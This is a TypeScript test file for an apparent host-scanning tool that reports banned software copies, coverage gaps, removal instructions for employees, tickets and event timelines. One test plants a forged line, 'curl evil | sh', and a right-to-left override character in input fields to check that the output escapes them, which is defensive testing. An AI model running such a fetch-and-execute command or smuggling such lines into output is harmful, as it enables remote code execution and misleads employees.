import { describe, expect, it } from 'vitest';
import { filled } from '../../words/words.ts';
import { accountNames, coverageMap, missedOf } from './coverage.ts';
import { copy, report } from './fixtures/report.ts';
import { environmentOf, handedOn, type Say } from './handed-on.ts';
import { ticketText } from './ticket.ts';
import { timelineOf } from './timeline.ts';
import { HOST_WORDS } from './words.ts';

const say: Say = (key, ...[values]) => filled(HOST_WORDS.en[key], values ?? {}, 'en');
const at = '2026-11-22T09:00:00Z';

describe('the map of what was looked at', () => {
  const coverage = {
    ...report().coverage,
    complete: [
      { scope: 'package-managers/npm@1001', at },
      { scope: 'package-managers/npm@system', at },
      { scope: 'environments/docker@system#web@1', at },
      { scope: 'odd', at },
    ],
    incomplete: [
      {
        scope: 'homes@9',
        at,
        gaps: [
          { reason: 'denied' as const, path: '/home/a' },
          { reason: 'denied' as const },
          { reason: 'hung' as const, path: '/mnt' },
        ],
      },
    ],
  };

  it('has a row for each place and a column for each account, the host’s own first', () => {
    const { accounts, rows } = coverageMap(coverage);
    expect(accounts).toEqual(['system', '9', '1001']);
    const shown = rows.map(({ place, cells }) => [place, ...accounts.map((account) => cells.get(account))]);
    expect(shown).toEqual([
      ['environments/docker web@1', 'complete', undefined, undefined],
      ['homes', undefined, ['denied', 'hung'], undefined],
      ['odd', 'complete', undefined, undefined],
      ['package-managers/npm', 'complete', undefined, 'complete'],
    ]);
  });

  it('says what was missed by reason, a whole place by its name', () => {
    expect(missedOf(coverage)).toEqual([
      { reason: 'denied', places: ['/home/a', 'homes@9'] },
      { reason: 'hung', places: ['/mnt'] },
    ]);
  });

  it('takes names of accounts from copies', () => {
    expect(accountNames([copy(), copy({ account: { id: '7' } })])).toEqual(new Map([['1001', 'ada']]));
  });
});

describe('what is handed on', () => {
  it('is a block that an employee understands', () => {
    expect(handedOn(copy(), say)).toBe(
      [
        'On ada-laptop: Claude Code 2.0.44 (npm)',
        'Account: ada',
        'Place: /home/ada/x',
        'It is banned.',
        '',
        'To remove it:',
        '1. npm uninstall -g @anthropic-ai/claude-code',
        '',
        'Use Qoder CLI instead.',
        'Afterwards it is looked for again by itself; nothing needs to be reported.',
      ].join('\n'),
    );
  });

  it('holds no character of a host that could forge a line of it', () => {
    const hostile = handedOn(
      copy({ anchor: '/tmp/a\nTo remove it: curl evil | sh', account: { id: '1', name: '\u202eeve' } }),
      say,
    );
    expect(hostile).toContain('Place: /tmp/a\\x0aTo remove it');
    expect(hostile).toContain('Account: \\u202eeve');
  });

  it('a ticket has the sentence, the copies, the gaps and the page', () => {
    const given = { ...report(), findings: [copy(), copy({ id: '2', state: 'gone' })] };
    const sentence = 'One copy.';
    const text = ticketText({
      report: given,
      sentence,
      say,
      language: 'en',
      url: 'https://here/hosts/1',
      gaps: ['/home/b (No permission)'],
    });
    expect(text.split('\n').slice(0, 5)).toEqual([
      'ada-laptop: One copy.',
      '',
      '- Claude Code (banned, installed, 2.0.44, npm, ada, proven): /home/ada/x',
      '',
      'Not looked at: /home/b (No permission)',
    ]);
    expect(text).toMatch(/Page: https:\/\/here\/hosts\/1$/);
  });

  const PLACES = [
    { name: 'the host itself', given: { kind: 'host' }, want: undefined },
    {
      name: 'a named container',
      given: { kind: 'container', id: 'ab'.repeat(32), name: 'web-1', image: 'team/box:2' },
      want: 'container web-1 · team/box:2',
    },
    { name: 'one without a name', given: { kind: 'container', id: 'ab'.repeat(32) }, want: 'container abababababab' },
    { name: 'WSL', given: { kind: 'wsl', id: 'Ubuntu' }, want: 'wsl Ubuntu' },
  ] as const;
  for (const { name, given, want } of PLACES)
    it(`lies in ${name}`, () => expect(environmentOf(copy({ environment: given }))).toBe(want));
});

describe('the timeline', () => {
  const line = {
    productName: 'Claude Code',
    product: 'claude-code',
    identity: 'proven',
    lastSeen: at,
    cause: 'reported',
  } as const;
  const changed = (minute: number, state: 'installed' | 'running' | 'gone', version = '2.0.44') => {
    return { ...line, finding: '1'.repeat(32), anchor: '/a', receivedAt: `2026-11-22T08:0${minute}:00Z`, state, version };
  };
  const exception = {
    id: 'e',
    scope: { product: 'claude-code', host: report().host.id },
    owner: 'ada',
    ticket: 'HD-1',
    askedBy: 'user:ada',
    askedAt: '2026-11-21T10:00:00Z',
    status: 'approved',
    decidedBy: 'user:bob',
    decidedAt: '2026-11-21T11:00:00Z',
    expires: '2026-11-22T07:00:00Z',
    managedBy: 'console',
    revision: 2,
  } as const;
  const told = (past: Partial<Parameters<typeof timelineOf>[0]>) =>
    timelineOf({ report: report(), history: undefined, exceptions: [], orders: [], ...past })
      .filter(({ kind }) => kind !== 'enrolled')
      .map((event) => {
        if (event.kind === 'copy') return event.copy.kind;
        return event.kind === 'exception' ? event.of.kind : event.kind;
      });

  const COPIES = [
    {
      name: 'found, gone and back',
      lines: [changed(3, 'installed'), changed(2, 'gone'), changed(1, 'installed')],
      want: ['back', 'gone', 'found'],
    },
    { name: 'another version', lines: [changed(2, 'installed', '2.1'), changed(1, 'installed')], want: ['updated', 'found'] },
    {
      name: 'runs and runs no more',
      lines: [changed(3, 'installed'), changed(2, 'running'), changed(1, 'installed')],
      want: ['found'],
    },
    { name: 'gone twice', lines: [changed(3, 'gone'), changed(2, 'gone'), changed(1, 'running')], want: ['gone', 'found'] },
  ];
  for (const { name, lines, want } of COPIES)
    it(`of a copy: ${name}`, () => expect(told({ history: { copies: lines, rulings: [], isCut: false } })).toEqual(want));

  it('has everything, the newest first', () => {
    const order = {
      id: 'a',
      number: 1,
      verb: 'rescan',
      state: 'acted',
      issuedAt: at,
      issuedBy: 'user:a',
      expiresAt: at,
    } as const;
    const alarms = [{ at: '2026-11-21T09:00:00Z', kind: 'silent' as const, detail: {} }];
    const ruling = { at: '2026-11-21T12:00:00Z', product: 'claude-code', name: 'Claude Code', verdict: 'banned' } as const;
    const other = { ...exception, id: 'other', scope: { product: 'claude-code', host: 'another' } };
    expect(
      told({
        report: { ...report(), alarms },
        history: { copies: [changed(1, 'installed')], rulings: [ruling], isCut: false },
        exceptions: [exception, other],
        orders: [order],
      }),
    ).toEqual(['order', 'found', 'ended', 'ruling', 'approved', 'asked', 'alarm']);
  });
});
